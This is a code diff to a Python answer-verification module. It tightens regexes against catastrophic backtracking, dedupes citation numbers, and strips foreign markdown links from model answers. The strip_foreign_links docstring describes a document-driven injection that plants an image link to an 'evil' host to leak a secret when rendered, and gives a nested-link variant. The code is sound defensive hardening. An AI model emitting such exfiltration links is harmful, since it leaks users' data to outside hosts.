@@ -25,10 +25,15 @@ MIN_NOVEL = 0.5  # and half of the words the question did not already contain
 KEEP_MARGIN = 0.15  # keep the model's own [n] unless another source is this much better
 UNSUPPORTED = "(not found in the sources)"
 
-_MD_LINK = re.compile(r"(!?)\[([^\]]*)\]\(([^)\s]*)[^)]*\)")
+# These run on model output and document text, so each is linear in its input (no
+# two quantifiers that can trade the same characters, no scan that every later start
+# repeats): a link's label, URL and title stop at the next "[", where the next try
+# starts; the title must begin with the space that ends the URL; and a marker's
+# leading spaces are only tried where a run of spaces begins.
+_MD_LINK = re.compile(r"(!?)\[([^\[\]]*)\]\(([^)\s\[]*)(?:\s[^)\[]*)?\)")
 _BARE_URL = re.compile(r"\b(?:https?|ftp|file|data|javascript):[^\s)\]]+", re.IGNORECASE)
 _NUMBER = re.compile(r"\d+(?:[.,]\d+)*")
-_MARKER = re.compile(r"\s*\[(\d+(?:\s*,\s*\d+)*)\]")
+_MARKER = re.compile(r"(?<!\s)\s*\[(\d+(?:\s*,\s*\d+)*)\]")
 _ANSWER_SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
 
 
@@ -71,7 +76,10 @@ def strip_foreign_links(answer: str, hits: list[Hit]) -> str:
 
     A document (or a model led on by one) can plant `![](https://evil/?q=secret)`;
     rendered in a browser that would fetch the URL. Links the sources contain stay,
-    as plain text.
+    as plain text. Removing an inner link can join its neighbours into a new one
+    (`![![x](a)](//evil)` becomes `![](//evil)`), and a link the pattern does not
+    read stays as written, so every "](" left over is broken up at the end: no
+    inline link or image survives, whatever the nesting.
     """
     sources = " ".join(h.chunk.text for h in hits)
 
@@ -82,16 +90,18 @@ def strip_foreign_links(answer: str, hits: list[Hit]) -> str:
         return "" if image else label
 
     text = _MD_LINK.sub(link, answer)
-    return _BARE_URL.sub(lambda m: m.group(0) if m.group(0) in sources else "", text)
+    text = _BARE_URL.sub(lambda m: m.group(0) if m.group(0) in sources else "", text)
+    return text.replace("](", "] (")
 
 
 def split_answer(text: str) -> list[tuple[str, list[int]]]:
-    """Answer sentences with the source numbers they cite, markers removed."""
+    """Answer sentences with the source numbers they cite (each once, in order of
+    first mention), markers removed."""
     out = []
     for raw in _ANSWER_SENTENCE.split(text.strip()):
         if not raw.strip():
             continue
-        cited = [int(n) for m in _MARKER.finditer(raw) for n in m.group(1).split(",")]
+        cited = list(dict.fromkeys(int(n) for m in _MARKER.finditer(raw) for n in m.group(1).split(",")))
         body = _MARKER.sub("", raw).strip()
         if body:
             out.append((body, cited))
@@ -150,7 +160,7 @@ def verify(answer: str, hits: list[Hit], question: str = "", min_support: float 
 def _with_markers(body: str, ns: list[int]) -> str:
     """'Leave is 1.5 days.' + [1] -> 'Leave is 1.5 days [1].'"""
     marks = "".join(f"[{n}]" for n in ns)
-    m = re.search(r"[.!?]+$", body)
-    if m:
-        return f"{body[: m.start()]} {marks}{m.group(0)}"
+    stem = body.rstrip(".!?")  # not re.search("[.!?]+$"): quadratic on "....x"
+    if len(stem) < len(body):
+        return f"{stem} {marks}{body[len(stem):]}"
     return f"{body} {marks}"
